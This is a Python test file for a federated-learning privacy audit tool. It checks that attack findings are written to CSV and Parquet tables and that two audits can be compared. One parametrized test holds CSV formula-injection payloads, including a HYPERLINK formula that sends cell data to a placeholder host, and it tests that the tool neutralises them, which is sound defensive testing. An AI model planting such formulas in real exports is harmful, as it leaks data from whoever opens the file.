"""What attacks found as one table, and two audits beside each other, from made-up records and commands."""

from __future__ import annotations

import csv
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from commandline import Refused, Run, refused, strict, vflens
from nonempty import nonempty
from processes import experiment_file

from vflens.experiments.outcome.finding import Finding, Findings, Quantity
from vflens.experiments.outcome.table import COLUMNS, long_rows, write_table

_FIXTURES = (refused, vflens)  # used by name
PLACE: dict[str, Any] = {"target": "passive", "scored_set": "predict"}
FOUND = Finding.of_share(
    *(Quantity.WITHIN, 0.5, 100, 0.2), attack="lmmse", subject="in,come", tolerance=5.0, **PLACE
)
ALL: dict[str, Any] = {"quantity": Quantity.ALL, "subject": "columns", "blind": 0.06, **PLACE}
ERRORS = (
    Finding(attack="lmmse", rows=100, value=0.02, low=0.015, high=0.025, **ALL),
    Finding(attack="dlg", rows=8, value=0.03, **{**ALL, "scored_set": "round-0"}),
    Finding.of_share(
        *(Quantity.LABELS, 0.9, 100, 0.5),
        attack="norm_scoring",
        subject="labels",
        target="active",
        scored_set="train",
    ),
)
EVIDENCE = [Findings(where="with no defence", columns=("in,come",), found=(FOUND, *ERRORS))]
AUDIT: dict[str, Any] = {
    "subject": "a.csv",
    "columns": ["age"],
    "units": [40.0],
    "tolerance": {"age": 2.0},
    "worst_cases": [],
    "attacks": [
        {
            **{
                "attack": "lmmse",
                "kind": "trained",
                "phase": "predict",
                "rows": 800,
                "mse": 0.02,
                "stderr": 0.001,
            },
            **{"columns": [0.02], "column_blind": [0.04], "column_stderr": [0.001]},
            **{"found": [0.2], "blind_found": [0.1], "imputed_found": [0.15]},
            "released": "",
        }
    ],
}


def test_each_figure_has_its_interval_and_what_guesses_reach() -> None:
    found, mse, free, right = long_rows(EVIDENCE)
    assert all(tuple(row) == COLUMNS for row in nonempty([found, mse, free, right]))
    assert (found["measure"], found["value"], found["blind"], found["tolerance"]) == ("found", 0.5, 0.2, 5.0)
    assert [found["low"], found["high"]] == pytest.approx([0.4038, 0.5962], abs=1e-4)  # Wilson, by hand
    assert (free["subject"], right["subject"]) == (
        "columns of passive, rows of round 0",
        "labels of active, training rows",
    )
    assert (mse["low"], mse["high"]) == pytest.approx((0.015, 0.025))
    assert (free["low"], free["high"]) == (None, None)
    assert (right["measure"], right["low"] < 0.9 < right["high"]) == ("right", True)


def test_csv_and_parquet_hold_the_same(tmp_path: Path) -> None:
    for name in ("t.csv", "t.parquet"):
        write_table(tmp_path / name, EVIDENCE)
    of_csv = _read(tmp_path / "t.csv")
    of_parquet = pq.read_table(tmp_path / "t.parquet").to_pylist()
    assert of_parquet == [*long_rows(EVIDENCE)]
    facts = [{k: "" if v is None else str(v) for k, v in row.items()} for row in of_parquet]
    assert of_csv == facts


def _read(file: Path) -> list[dict[str, str]]:
    with file.open(encoding="utf-8", newline="") as text:
        return [*csv.DictReader(text)]


def test_another_ending_is_refused_before_the_work(refused: Refused, tmp_path: Path) -> None:
    sweep = experiment_file(tmp_path, sweep={"seeds": 1})
    for command in (["report", tmp_path], ["sweep", sweep], ["audit", "wine", "--columns", "ash"]):
        sentence = refused(2, *command, "--table", "t.xlsx")
        assert sentence == "--table t.xlsx: give a name that ends in .csv or .parquet"


def test_a_sweep_and_a_report_write_their_table(vflens: Run, tmp_path: Path) -> None:
    attacks = {"attacks": [{"name": "half_star"}], "disclose": [{"what": "parameters", "to": "active"}]}
    file = experiment_file(tmp_path, **attacks, sweep={"seeds": 1})
    ended = vflens("sweep", file, "--out", tmp_path / "out", "--table", tmp_path / "s.csv", "--json")
    assert (ended.code, strict(ended.out)["table"]) == (0, str(tmp_path / "s.csv"))
    vflens("run", experiment_file(tmp_path, **attacks), "--in-process")
    given = ["report", tmp_path / "runs/tiny", "--out", tmp_path / "r.html", "--table", tmp_path / "r.csv"]
    assert vflens(*given).code == 0
    tables = [_read(tmp_path / name) for name in ("s.csv", "r.csv")]
    assert all({r["measure"] for r in t} == {"found", "mse"} for t in nonempty(tables))
    assert all(
        float(r["low"]) <= float(r["value"]) <= float(r["high"]) for r in nonempty(tables[0] + tables[1])
    )


def _written(folder: Path, name: str, **changes: Any) -> Path:
    found = {**AUDIT, **changes}
    (folder / name).write_text(json.dumps(found), encoding="utf-8")
    return folder / name


def test_two_audits_are_compared(vflens: Run, refused: Refused, tmp_path: Path) -> None:
    changed = [{**AUDIT["attacks"][0], "found": [0.3]}]
    a, b = _written(tmp_path, "a.json"), _written(tmp_path, "b.json", subject="b.csv", attacks=changed)
    found = strict(vflens("compare", a, b, "--json").out)
    assert (found["a"], found["b"], found["equal"]) == ("a.csv", "b.csv", False)
    (difference,) = found["differences"]
    assert {k: difference[k] for k in ("attack", "column", "measure", "a", "b", "blind_a")} == {
        "attack": "lmmse",
        "column": "age",
        "measure": "found",
        "a": 0.2,
        "b": 0.3,
        "blind_a": 0.1,
    }
    assert difference["difference"] == pytest.approx(0.1)
    assert "found by lmmse of age" in " ".join(vflens("compare", a, b).out.split())
    assert strict(vflens("compare", a, a, "--json").out)["equal"]
    (tmp_path / "c.json").write_text("{}", encoding="utf-8")
    assert "is no audit (subject: it is missing)" in refused(3, "compare", a, tmp_path / "c.json")


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x/?"&A2)', "+1+A2", "-1+A2", "@SUM(A1)", "\t=A1", "\r=A1"]
)
def test_a_spreadsheet_runs_no_name_in_a_table(tmp_path: Path, name: str) -> None:
    """Other parties choose names of columns, of themselves and of runs; a number stays one."""
    error = replace(ERRORS[0], attack=name, target=name, value=-1.5)
    found = tuple(replace(FOUND, subject=subject) for subject in (name, "-5"))
    evidence = Findings(where=name, columns=(name,), found=(*found, error))
    write_table(tmp_path / "t.csv", [evidence])
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as file:
        rows = nonempty(list(csv.DictReader(file)))
    assert {row["where"] for row in rows} == {f"'{name}"}
    assert [row["column"] for row in rows] == [f"'{name}", "-5", ""]
    assert (rows[2]["attack"], rows[2]["subject"], rows[2]["value"]) == (
        *(f"'{name}", f"columns of {name}, predict rows", "-1.5"),
    )
    write_table(tmp_path / "t.parquet", [replace(evidence, found=found)])
    assert pq.read_table(tmp_path / "t.parquet")["column"].to_pylist() == [name, "-5"]
